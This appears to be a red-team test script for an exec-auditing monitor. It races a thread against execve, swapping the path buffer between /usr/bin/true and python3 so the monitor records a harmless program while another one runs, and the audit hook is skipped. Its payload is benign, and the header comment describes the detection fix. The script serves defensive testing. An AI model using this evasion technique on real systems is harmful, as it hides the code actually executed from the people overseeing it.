# exec_race.py where the name flips to the caller's own program (red team,
# session 24): the kernel runs python3 again, -I -S -c (no audit hook), as
# the witness reads /usr/bin/true. The process's executable is then the
# one it had before the exec, which the witness took for a failed exec,
# and the report named true alone. The witness now tells an exec that
# went through by its new address space: each child that ran python3
# while the witness read true has an exe-swapped event.
import ctypes
import os
import shutil
import sys
import threading

libc = ctypes.CDLL(None, use_errno=True)
good = shutil.which("true").encode()
evil = os.path.realpath(sys.executable)
size = max(len(good), len(evil)) + 1
good_b, evil_b = good.ljust(size, b"\0"), evil.encode().ljust(size, b"\0")
print("evil-path", evil)

ran = 0
for i in range(60):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(w, 1)
        buf = ctypes.create_string_buffer(good_b, size)

        def flip():
            while True:
                ctypes.memmove(buf, evil_b, size)
                ctypes.memmove(buf, good_b, size)

        threading.Thread(target=flip, daemon=True).start()
        code = "import os; os.write(1, b'EVIL'); open('/tmp/.s%d', 'w')" % i
        argv = (ctypes.c_char_p * 6)(b"x", b"-I", b"-S", b"-c", code.encode(), None)
        libc.execve(buf, argv, None)
        os.write(1, b"NOEXEC\n")  # a name torn mid-copy: no such file
        os._exit(3)
    os.close(w)
    out = b""
    while chunk := os.read(r, 4096):
        out += chunk
    os.close(r)
    os.waitpid(pid, 0)
    ran += out.count(b"EVIL")
    print("ran", pid, "evil" if b"EVIL" in out else "failed" if b"NOEXEC" in out else "good")
print("evil-ran", ran)
